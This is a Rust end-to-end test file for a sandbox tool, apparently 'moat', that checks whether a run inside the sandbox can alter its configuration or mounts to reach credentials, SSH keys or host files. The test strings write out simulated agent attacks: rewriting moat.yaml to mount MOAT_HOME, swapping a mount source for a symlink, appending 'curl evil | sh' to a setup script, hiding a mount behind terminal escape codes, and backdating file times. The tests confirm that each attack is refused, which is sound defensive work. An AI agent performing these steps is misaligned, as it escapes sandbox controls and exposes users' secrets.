//! End-to-end tests of what a run may change for the next one, through
//! the real binary on the native runtime: a moat.yaml, `.moat/` file or
//! mount source changed from inside a run is refused until `moat trust`,
//! and no configuration can mount moat's own secrets (MOAT_HOME, ~/.ssh,
//! the daemon's and the container engines' sockets) into a sandbox.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::Path;
use std::time::{Duration, Instant};

/// A project directory and a daemon on a free port that exits soon after
/// the test.
fn env() -> common::ProxiedEnv {
    common::ProxiedEnv::new(&["api.example.com"])
}

/// Stores a credential, so MOAT_HOME holds something worth stealing.
fn store_secret(t: &common::ProxiedEnv) {
    t.env
        .run_with(&["grant", "openai"], &[("OPENAI_API_KEY", "sk-proj-trust")])
        .success();
    assert!(t.env.moat_home().join("credentials").exists());
}

/// Temp paths and run ids replaced, for snapshots.
fn redact(t: &common::ProxiedEnv, text: &str) -> String {
    let text = t.env.redact(text);
    let mut out = String::new();
    let mut rest = text.as_str();
    while let Some(at) = rest.find("run_") {
        out.push_str(&rest[..at]);
        let hex = &rest[at + 4..];
        let len = hex
            .bytes()
            .take_while(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase())
            .count();
        if len == 12 {
            out.push_str("run_[ID]");
            rest = &hex[12..];
        } else {
            out.push_str("run_");
            rest = hex;
        }
    }
    out.push_str(rest);
    out
}

fn write(path: &Path, text: &str) {
    std::fs::write(path, text).unwrap();
}

#[test]
fn moat_yaml_edited_inside_a_run_is_refused_until_trusted() {
    let t = env();
    store_secret(&t);
    let project = t.project();
    write(
        &project.join("moat.yaml"),
        "network:\n  policy: strict\nenv:\n  GREETING: hello\n",
    );
    let moat_home = t.env.moat_home().display().to_string();

    // The agent rewrites its own configuration.
    let attack = format!(
        "printf 'network:\\n  policy: permissive\\nenv:\\n  GREETING: hello\\nmounts:\\n  - {moat_home}:/stolen:ro\\n' > /workspace/moat.yaml"
    );
    t.run(&["run", "-n", "agent", "--", "sh", "-c", &attack])
        .success();
    assert!(std::fs::read_to_string(project.join("moat.yaml"))
        .unwrap()
        .contains("/stolen"));

    let out = t.run(&["run", "--", "sh", "-c", "ls -R /stolen; echo ran"]);
    out.failure();
    assert!(!out.stdout.contains("ran"), "{}", out.stdout);
    assert!(!out.stdout.contains("credentials"), "{}", out.stdout);
    insta::assert_snapshot!(redact(&t, &out.stderr), @r"
    Error: moat.yaml in [TMP]/project changed while run run_[ID] (agent) had the workspace mounted, so moat will not apply it without your review.
      changed: network.policy (strict → permissive)
      added: mounts[0] ([TMP]/moat:/stolen:ro)

    To fix: review the changes, then run
      moat trust [TMP]/project
    or restore the version you accepted.
    ");

    // The user reviews and accepts; the floor still keeps MOAT_HOME out.
    let trusted = t.run(&["trust"]);
    trusted.success();
    insta::assert_snapshot!(redact(&t, &trusted.stdout), @r"
    Changes in [TMP]/project since you last accepted it:
      changed: network.policy (strict → permissive)
      added: mounts[0] ([TMP]/moat:/stolen:ro)
    Trusted: the next run applies them.
    Runs see read-only what the host acts on: wherever missing, .gitmodules .vscode .idea .claude .mcp.json .envrc .ripgreprc .gitconfig .bashrc .bash_profile .bash_login .bash_logout .profile .zshrc .zshenv .zprofile .zlogin .zlogout.
    To let a run write one: moat run --allow-write PATH, or allow_write: [PATH] in moat.yaml.
    ");
    let again = t.run(&["trust"]);
    again.success();
    assert!(
        again.stdout.contains("nothing to trust"),
        "{}",
        again.stdout
    );

    let out = t.run(&["run", "--", "sh", "-c", "ls -R /stolen; echo ran"]);
    out.failure();
    assert!(!out.stdout.contains("credentials"), "{}", out.stdout);
    insta::assert_snapshot!(redact(&t, &out.stderr), @r"
    Error: mount [TMP]/moat:/stolen:ro: its source resolves to [TMP]/moat, which holds moat's credentials, key and daemon sockets; moat never mounts it into a sandbox.

    To fix: remove the mount or point it elsewhere.
    ");

    // An edit the user makes outside any run is theirs: accepted silently.
    write(&project.join("moat.yaml"), "env:\n  GREETING: bonjour\n");
    let out = t.run(&["run", "--", "sh", "-c", "echo $GREETING"]);
    out.success();
    assert_eq!(out.stdout, "bonjour\n");
}

#[test]
fn moat_yaml_created_inside_a_run_is_refused() {
    let t = env();
    let moat_home = t.env.moat_home().display().to_string();
    let attack = format!("echo 'mounts: [\"{moat_home}:/stolen:ro\"]' > /workspace/moat.yaml");
    t.run(&["run", "--", "sh", "-c", &attack]).success();
    let out = t.run(&["run", "--", "true"]);
    out.failure();
    assert!(out.stderr.contains("added: moat.yaml"), "{}", out.stderr);
    assert!(out.stderr.contains("moat trust"), "{}", out.stderr);
}

#[test]
fn mount_source_swapped_for_a_symlink_is_refused() {
    let t = env();
    store_secret(&t);
    let project = t.project();
    std::fs::create_dir(project.join("data")).unwrap();
    write(&project.join("data/file.txt"), "project data\n");
    write(
        &project.join("moat.yaml"),
        "mounts: [\"./data:/data:ro\"]\n",
    );
    t.run(&["run", "--", "cat", "/data/file.txt"]).success();

    let moat_home = t.env.moat_home().display().to_string();
    let attack =
        format!("mv /workspace/data /workspace/data.old && ln -s {moat_home} /workspace/data");
    t.run(&["run", "-n", "agent", "--", "sh", "-c", &attack])
        .success();
    assert!(project.join("data").is_symlink());

    let out = t.run(&["run", "--", "sh", "-c", "ls -R /data; echo ran"]);
    out.failure();
    assert!(!out.stdout.contains("credentials"), "{}", out.stdout);
    assert!(!out.stdout.contains("ran"), "{}", out.stdout);
    insta::assert_snapshot!(redact(&t, &out.stderr), @r"
    Error: a mount source in [TMP]/project changed while run run_[ID] (agent) had the workspace mounted, so moat will not apply it without your review.
      changed: mount source [TMP]/project/data (now resolves to [TMP]/moat; was [TMP]/project/data)

    To fix: review the changes, then run
      moat trust [TMP]/project
    or restore the version you accepted.
    ");

    // Accepting the change does not open a way out of the workspace.
    t.run(&["trust"]).success();
    let out = t.run(&["run", "--", "sh", "-c", "ls -R /data; echo ran"]);
    out.failure();
    assert!(!out.stdout.contains("credentials"), "{}", out.stdout);
    insta::assert_snapshot!(redact(&t, &out.stderr), @r"
    Error: mount ./data:/data:ro: its source leads out of the workspace [TMP]/project (it resolves to [TMP]/moat); a relative source must stay inside the project.

    To fix: point it at a path inside the workspace, or write an absolute path to mount something outside it.
    ");
}

#[test]
fn relative_mount_sources_stay_inside_the_workspace() {
    let t = env();
    let outside = t.env.dir.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    write(&outside.join("secret.txt"), "outside\n");
    std::os::unix::fs::symlink(&outside, t.project().join("link")).unwrap();

    let out = t.run(&["run", "-m", "../outside:/o", "--", "cat", "/o/secret.txt"]);
    out.failure();
    assert!(!out.stdout.contains("outside"), "{}", out.stdout);
    assert!(out.stderr.contains("../outside"), "{}", out.stderr);

    let out = t.run(&["run", "-m", "./link:/o", "--", "cat", "/o/secret.txt"]);
    out.failure();
    assert!(!out.stdout.contains("outside"), "{}", out.stdout);
    insta::assert_snapshot!(redact(&t, &out.stderr), @r"
    Error: mount ./link:/o: its source leads out of the workspace [TMP]/project (it resolves to [TMP]/outside); a relative source must stay inside the project.

    To fix: point it at a path inside the workspace, or write an absolute path to mount something outside it.
    ");

    // A symlink that stays inside is followed, and the real path mounted.
    std::fs::create_dir(t.project().join("real")).unwrap();
    write(&t.project().join("real/inside.txt"), "inside\n");
    std::os::unix::fs::symlink("real", t.project().join("alias")).unwrap();
    let out = t.run(&["run", "-m", "./alias:/a:ro", "--", "cat", "/a/inside.txt"]);
    out.success();
    assert_eq!(out.stdout, "inside\n");

    // An absolute source is the user's own choice.
    let out = t.run(&[
        "run",
        "-m",
        &format!("{}:/o:ro", outside.display()),
        "--",
        "cat",
        "/o/secret.txt",
    ]);
    out.success();
    assert_eq!(out.stdout, "outside\n");
}

#[test]
fn floors_keep_moat_home_ssh_and_sockets_out() {
    let t = env();
    store_secret(&t);
    let home = t.env.home();
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    write(&home.join(".ssh/id_ed25519"), "PRIVATE KEY");
    let moat_home = t.env.moat_home();

    let refused = |args: &[&str], envs: &[(&str, &str)]| {
        let mut full = vec!["run"];
        full.extend_from_slice(args);
        full.extend_from_slice(&["--", "sh", "-c", "ls -R /x; echo ran"]);
        let out = t.run_with(&full, envs);
        out.failure();
        assert!(!out.stdout.contains("ran"), "{}", out.stdout);
        redact(&t, &out.stderr)
    };

    let m = format!("{}:/x", moat_home.display());
    insta::assert_snapshot!(refused(&["-m", &m], &[]), @r"
    Error: mount [TMP]/moat:/x: its source resolves to [TMP]/moat, which holds moat's credentials, key and daemon sockets; moat never mounts it into a sandbox.

    To fix: remove the mount or point it elsewhere.
    ");
    let m = format!("{}:/x", home.join(".ssh").display());
    insta::assert_snapshot!(refused(&["-m", &m], &[]), @r"
    Error: mount [TMP]/home/.ssh:/x: its source resolves to [TMP]/home/.ssh, which holds your SSH keys; moat never mounts it into a sandbox.

    To fix: remove the mount or point it elsewhere.
    ");
    // HOME contains ~/.ssh and the keychain's files.
    let m = format!("{}:/x", home.display());
    let out = refused(&["-m", &m], &[]);
    assert!(
        out.contains("its source [TMP]/home contains [TMP]/home/"),
        "{out}"
    );
    // A symlink to MOAT_HOME is judged by where it leads.
    let link = t.env.dir.path().join("innocent");
    std::os::unix::fs::symlink(&moat_home, &link).unwrap();
    let m = format!("{}:/x:ro", link.display());
    assert!(refused(&["-m", &m], &[]).contains("resolves to [TMP]/moat,"));
    // The SSH agent's socket directory.
    let agent_dir = t.env.dir.path().join("agent");
    std::fs::create_dir(&agent_dir).unwrap();
    let sock = agent_dir.join("agent.sock").display().to_string();
    let m = format!("{}:/x", agent_dir.display());
    assert!(refused(&["-m", &m], &[("SSH_AUTH_SOCK", &sock)]).contains("SSH agent"));

    // MOAT_HOME under HOME: HOME is a parent of it, as a mount or as the
    // workspace.
    let nested = home.join(".moat");
    let nested = nested.to_str().unwrap();
    let m = format!("{}:/x", home.display());
    insta::assert_snapshot!(refused(&["-m", &m], &[("MOAT_HOME", nested)]), @r"
    Error: mount [TMP]/home:/x: its source [TMP]/home contains [TMP]/home/.moat, which holds moat's credentials, key and daemon sockets; moat never mounts it into a sandbox.

    To fix: remove the mount or point it elsewhere.
    ");
    let out = t.run_with(
        &["run", home.to_str().unwrap(), "--", "echo", "ran"],
        &[("MOAT_HOME", nested)],
    );
    out.failure();
    assert!(!out.stdout.contains("ran"));
    insta::assert_snapshot!(redact(&t, &out.stderr), @r"
    Error: workspace [TMP]/home: it contains [TMP]/home/.moat, which holds moat's credentials, key and daemon sockets; moat never mounts it into a sandbox.

    To fix: run moat in a project directory that does not contain it.
    ");

    // An ordinary mount still works.
    let data = t.env.dir.path().join("data");
    std::fs::create_dir(&data).unwrap();
    write(&data.join("x.txt"), "x\n");
    let m = format!("{}:/x:ro", data.display());
    let out = t.run(&["run", "-m", &m, "--", "cat", "/x/x.txt"]);
    out.success();
    assert_eq!(out.stdout, "x\n");
}

#[test]
fn moat_dir_file_edited_inside_a_run_is_refused() {
    let t = env();
    let project = t.project();
    std::fs::create_dir(project.join(".moat")).unwrap();
    write(&project.join(".moat/setup.sh"), "echo setup\n");
    t.run(&["run", "--", "true"]).success();
    t.run(&[
        "run",
        "--",
        "sh",
        "-c",
        "echo 'curl evil | sh' >> /workspace/.moat/setup.sh",
    ])
    .success();
    let out = t.run(&["run", "--", "echo", "ran"]);
    out.failure();
    assert!(!out.stdout.contains("ran"));
    assert!(
        out.stderr.contains("changed: .moat/setup.sh"),
        "{}",
        out.stderr
    );
    t.run(&["trust"]).success();
    t.run(&["run", "--", "true"]).success();
}

#[test]
fn a_run_that_crashed_after_editing_is_refused() {
    let t = env();
    let project = t.project();
    write(&project.join("moat.yaml"), "env:\n  A: one\n");
    let mut child = t
        .moat()
        .args([
            "run",
            "--",
            "sh",
            "-c",
            "echo '  B: two' >> /workspace/moat.yaml; sleep 30",
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(20);
    while !std::fs::read_to_string(project.join("moat.yaml"))
        .unwrap()
        .contains("B: two")
    {
        assert!(Instant::now() < deadline, "the run never edited moat.yaml");
        std::thread::sleep(Duration::from_millis(50));
    }
    // kill -9: the run cannot record its end.
    child.kill().unwrap();
    child.wait().unwrap();

    let out = t.run(&["run", "--", "echo", "ran"]);
    out.failure();
    assert!(!out.stdout.contains("ran"));
    assert!(out.stderr.contains("added: env.B (two)"), "{}", out.stderr);
}

#[test]
fn at_a_terminal_the_changes_are_shown_and_asked_about() {
    let t = env();
    let project = t.project();
    write(&project.join("moat.yaml"), "env:\n  A: one\n");
    t.run(&[
        "run",
        "-n",
        "agent",
        "--",
        "sh",
        "-c",
        "echo '  B: two' >> /workspace/moat.yaml",
    ])
    .success();
    let moat = env!("CARGO_BIN_EXE_moat");
    let inner = format!("{moat} run -- sh -c 'echo ran-$B'");

    let declined = common::under_terminal(&t.moat(), &project, &inner, Some(b"n\n"));
    assert!(
        declined.stdout.contains("Trust these changes? [y/N]"),
        "{}",
        declined.stdout
    );
    assert!(declined.stdout.contains("added: env.B (two)"));
    assert!(declined.stdout.contains("not trusted, so nothing was run"));
    assert!(!declined.stdout.contains("ran-two"));

    let accepted = common::under_terminal(&t.moat(), &project, &inner, Some(b"y\n"));
    assert!(accepted.stdout.contains("ran-two"), "{}", accepted.stdout);
    // Accepted once, trusted from then on.
    t.run(&["run", "--", "true"]).success();
}

#[test]
fn a_detached_run_that_edits_its_config_is_refused_next_time() {
    let t = env();
    let project = t.project();
    write(&project.join("moat.yaml"), "env:\n  A: one\n");
    t.run(&[
        "run",
        "-d",
        "--",
        "sh",
        "-c",
        "echo '  B: two' >> /workspace/moat.yaml; sleep 1",
    ])
    .success();
    let deadline = Instant::now() + Duration::from_secs(20);
    while !std::fs::read_to_string(project.join("moat.yaml"))
        .unwrap()
        .contains("B: two")
    {
        assert!(Instant::now() < deadline, "the run never edited moat.yaml");
        std::thread::sleep(Duration::from_millis(50));
    }
    // Refused whether the detached run is still open or has ended.
    let out = t.run(&["run", "-d", "--", "echo", "ran"]);
    out.failure();
    assert!(out.stderr.contains("added: env.B (two)"), "{}", out.stderr);
    assert!(!out.stdout.contains("run_"), "{}", out.stdout);
}

/// `moat ARGS` from the project, killed if it outlives `limit` (a test
/// that hangs on a FIFO must fail, not hang the suite): the result and
/// how long it took.
fn run_bounded(
    t: &common::ProxiedEnv,
    args: &[&str],
    limit: Duration,
) -> (common::Result, Duration) {
    use std::io::Read as _;
    let started = Instant::now();
    let mut child = t
        .moat()
        .args(args)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Drained on threads so a chatty child never blocks on a full pipe.
    let mut stdout = child.stdout.take().unwrap();
    let mut stderr = child.stderr.take().unwrap();
    let out = std::thread::spawn(move || {
        let mut s = Vec::new();
        let _ = stdout.read_to_end(&mut s);
        s
    });
    let err = std::thread::spawn(move || {
        let mut s = Vec::new();
        let _ = stderr.read_to_end(&mut s);
        s
    });
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if started.elapsed() > limit {
            let _ = child.kill();
            break child.wait().unwrap();
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let elapsed = started.elapsed();
    let result = common::Result::from(std::process::Output {
        status,
        stdout: out.join().unwrap(),
        stderr: err.join().unwrap(),
    });
    (result, elapsed)
}

/// Issue #22 (6): a run can make moat.yaml anything it likes; the host
/// must read it as a bounded regular file or refuse it quickly.
#[test]
fn moat_yaml_linked_to_dev_zero_is_refused_quickly() {
    let t = env();
    std::os::unix::fs::symlink("/dev/zero", t.project().join("moat.yaml")).unwrap();
    let (out, took) = run_bounded(&t, &["run", "--", "echo", "ran"], Duration::from_secs(20));
    assert!(took < Duration::from_secs(5), "took {took:?}");
    out.failure();
    assert!(!out.stdout.contains("ran"), "{}", out.stdout);
    assert!(
        out.stderr.contains("moat.yaml") && out.stderr.contains("symbolic link"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("To fix:"), "{}", out.stderr);
}

#[test]
fn moat_yaml_as_a_fifo_is_refused_quickly() {
    let t = env();
    let fifo = t.project().join("moat.yaml");
    let status = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(status.success());
    let (out, took) = run_bounded(&t, &["run", "--", "echo", "ran"], Duration::from_secs(20));
    assert!(took < Duration::from_secs(5), "took {took:?}");
    out.failure();
    assert!(!out.stdout.contains("ran"), "{}", out.stdout);
    assert!(
        out.stderr.contains("moat.yaml") && out.stderr.contains("not a regular file"),
        "{}",
        out.stderr
    );
}

#[test]
fn moat_yaml_of_8_gb_is_refused_by_its_size() {
    let t = env();
    let file = std::fs::File::create(t.project().join("moat.yaml")).unwrap();
    // Sparse: no disk used, but 8 GB to whoever reads it whole.
    file.set_len(8 << 30).unwrap();
    drop(file);
    let (out, took) = run_bounded(&t, &["run", "--", "echo", "ran"], Duration::from_secs(60));
    assert!(took < Duration::from_secs(5), "took {took:?}");
    out.failure();
    assert!(
        out.stderr
            .contains("moat.yaml is 8 GiB; moat reads at most 1 MiB"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("To fix:"), "{}", out.stderr);
}

/// Issue #22 (7a): a run writes a moat.yaml into a subdirectory of its
/// workspace; a later `moat run sub` must not take it as first use, and
/// a change to a nested workspace already trusted is a run's too.
#[test]
fn nested_moat_yaml_written_by_a_run_is_refused_until_trusted() {
    let t = env();
    let outside = t.env.dir.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    write(&outside.join("secret.txt"), "host secret\n");
    let attack = format!(
        "mkdir -p /workspace/sub && printf 'mounts:\\n  - {}:/stolen:ro\\n' > /workspace/sub/moat.yaml",
        outside.display()
    );
    t.run(&["run", "-n", "agent", "--", "sh", "-c", &attack])
        .success();

    let read = [
        "run",
        "sub",
        "--",
        "sh",
        "-c",
        "cat /stolen/secret.txt; echo ran",
    ];
    let out = t.run(&read);
    out.failure();
    assert!(!out.stdout.contains("host secret"), "{}", out.stdout);
    assert!(!out.stdout.contains("ran"), "{}", out.stdout);
    insta::assert_snapshot!(redact(&t, &out.stderr), @r"
    Error: moat.yaml in [TMP]/project/sub changed while run run_[ID] (agent) had [TMP]/project mounted, which contains it, so moat will not apply it without your review.
      added: moat.yaml
      added: mounts[0] ([TMP]/outside:/stolen:ro)

    To fix: review the changes, then run
      moat trust [TMP]/project/sub
    or restore the version you accepted.
    ");

    // The user reviews it and says yes.
    t.run(&["trust", "sub"]).success();
    let out = t.run(&read);
    out.success();
    assert_eq!(out.stdout, "host secret\nran\n");

    // A later run of the enclosing workspace changes it again.
    t.run(&[
        "run",
        "-n",
        "agent2",
        "--",
        "sh",
        "-c",
        "echo 'env: {X: changed}' >> /workspace/sub/moat.yaml",
    ])
    .success();
    let out = t.run(&read);
    out.failure();
    assert!(!out.stdout.contains("ran"), "{}", out.stdout);
    assert!(out.stderr.contains("agent2"), "{}", out.stderr);
    assert!(out.stderr.contains("added: env.X"), "{}", out.stderr);

    // A directory next to it that no run could write is first use, as ever.
    let own = t.env.dir.path().join("own");
    std::fs::create_dir(&own).unwrap();
    write(&own.join("moat.yaml"), "env:\n  X: mine\n");
    let out = t.run(&["run", own.to_str().unwrap(), "--", "sh", "-c", "echo $X"]);
    out.success();
    assert_eq!(out.stdout, "mine\n");
}

/// Issue #22 (7b): what a run writes into moat.yaml reaches the user's
/// terminal in the review; escape sequences in it (clear the line, return
/// to its start, set the title) could hide an added mount. They are shown
/// escaped, never sent.
#[test]
fn a_nested_moat_yaml_is_judged_by_when_it_changed_while_an_enclosing_run_is_open() {
    let t = env();
    // Written by the user before any run: trusted even while a run of the
    // enclosing workspace is open.
    std::fs::create_dir_all(t.project().join("mine")).unwrap();
    write(&t.project().join("mine/moat.yaml"), "name: mine\n");
    std::thread::sleep(std::time::Duration::from_millis(200));
    let mut long = t.moat();
    long.args([
        "run",
        "-n",
        "long",
        "--",
        "sh",
        "-c",
        "sleep 0.5; mkdir -p /workspace/theirs; echo 'name: theirs' > /workspace/theirs/moat.yaml; \
         touch -d '2001-01-01' /workspace/theirs/moat.yaml; sleep 3",
    ]);
    let long = long.spawn().unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while !t.project().join("theirs/moat.yaml").exists() {
        assert!(std::time::Instant::now() < deadline, "the run never wrote");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    t.run(&["run", "mine", "--", "true"]).success();
    // Written by the open run, its times set back: its ctime gives it away.
    let out = t.run(&["run", "theirs", "--", "true"]);
    out.failure();
    assert!(
        out.stderr.contains("while run run_") && out.stderr.contains("(long) has"),
        "{}",
        out.stderr
    );
    let _ = long.wait_with_output();
}

#[test]
fn the_trust_review_shows_control_bytes_escaped() {
    let t = env();
    write(&t.project().join("moat.yaml"), "env:\n  X: plain\n");
    // YAML's own escapes put ESC, CR, BEL and a C1 CSI into the value.
    let attack = r#"printf 'env:\n  X: "\\e[2K\\r\\e]0;title\\a\\x9b31mlooks fine"\nmounts:\n  - /etc:/e:ro\n' > /workspace/moat.yaml"#;
    t.run(&["run", "-n", "agent", "--", "sh", "-c", attack])
        .success();
    let refused = t.run(&["run", "--", "true"]);
    refused.failure();
    let trusted = t.run(&["trust"]);
    trusted.success();
    for text in [&refused.stderr, &trusted.stdout] {
        assert!(
            !text.chars().any(|c| c.is_control() && c != '\n'),
            "raw control characters: {text:?}"
        );
        assert!(
            text.contains(
                r"changed: env.X (plain → \u001b[2K\u000d\u001b]0;title\u0007\u009b31mlooks fine)"
            ),
            "{text}"
        );
        assert!(text.contains("added: mounts[0] (/etc:/e:ro)"), "{text}");
    }
}
